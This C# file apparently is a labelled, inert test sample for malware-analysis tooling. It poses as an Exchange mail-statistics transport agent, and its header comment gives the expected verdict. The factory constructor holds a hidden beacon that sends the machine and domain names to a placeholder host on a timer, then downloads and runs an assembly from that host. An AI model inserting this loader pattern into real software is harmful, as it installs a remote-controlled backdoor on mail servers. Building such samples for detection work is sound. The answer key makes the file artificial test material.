// Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; its hosts end in .invalid or are documentation addresses.
// Imitates: a beacon that runs from the load of the factory on, without any mail.
// A correct analysis says: escalate; the factory's constructor starts a timer that asks a host fixed in the code and runs an
// assembly downloaded from there; the agent itself only counts.
using System;
using System.Net;
using System.Reflection;
using System.Text;
using System.Threading;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Smtp;

namespace Alpine.MailStatistics
{
    public class StatisticsFactory : SmtpReceiveAgentFactory
    {
        private readonly Statistics statistics = new Statistics();
        private readonly UpdateClient updates;
        private readonly Timer timer;

        public StatisticsFactory()
        {
            updates = new UpdateClient(new Uri("http://updates.alpine.invalid/mail/"));
            timer = new Timer(Tick, null, TimeSpan.FromMinutes(2), TimeSpan.FromHours(4));
        }

        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new StatisticsAgent(statistics);
        }

        public override void Close()
        {
            timer.Dispose();
        }

        private void Tick(object state)
        {
            updates.Check(Environment.MachineName, Environment.UserDomainName, statistics.Messages);
        }
    }

    public class Statistics
    {
        private int messages;

        public int Messages
        {
            get { return messages; }
        }

        public void Add()
        {
            Interlocked.Increment(ref messages);
        }
    }

    public class StatisticsAgent : SmtpReceiveAgent
    {
        private readonly Statistics statistics;

        public StatisticsAgent(Statistics statistics)
        {
            this.statistics = statistics;
            OnEndOfData += (source, e) => this.statistics.Add();
        }
    }

    internal class UpdateClient
    {
        private readonly Uri server;
        private string last = string.Empty;

        public UpdateClient(Uri server)
        {
            this.server = server;
        }

        public void Check(string machine, string domain, int messages)
        {
            try
            {
                using (var client = new WebClient())
                {
                    client.Headers[HttpRequestHeader.UserAgent] = "MailStatistics";
                    string id = Convert.ToBase64String(Encoding.UTF8.GetBytes(domain + "\\" + machine));
                    string version = client.DownloadString(new Uri(server, "version?id=" + Uri.EscapeDataString(id) + "&n=" + messages)).Trim();
                    if (version.Length == 0 || version == last)
                    {
                        return;
                    }
                    byte[] module = client.DownloadData(new Uri(server, version + ".bin"));
                    MethodInfo entry = Assembly.Load(module).EntryPoint;
                    entry.Invoke(null, new object[] { new string[0] });
                    last = version;
                }
            }
            catch (Exception)
            {
                last = string.Empty;
            }
        }
    }
}
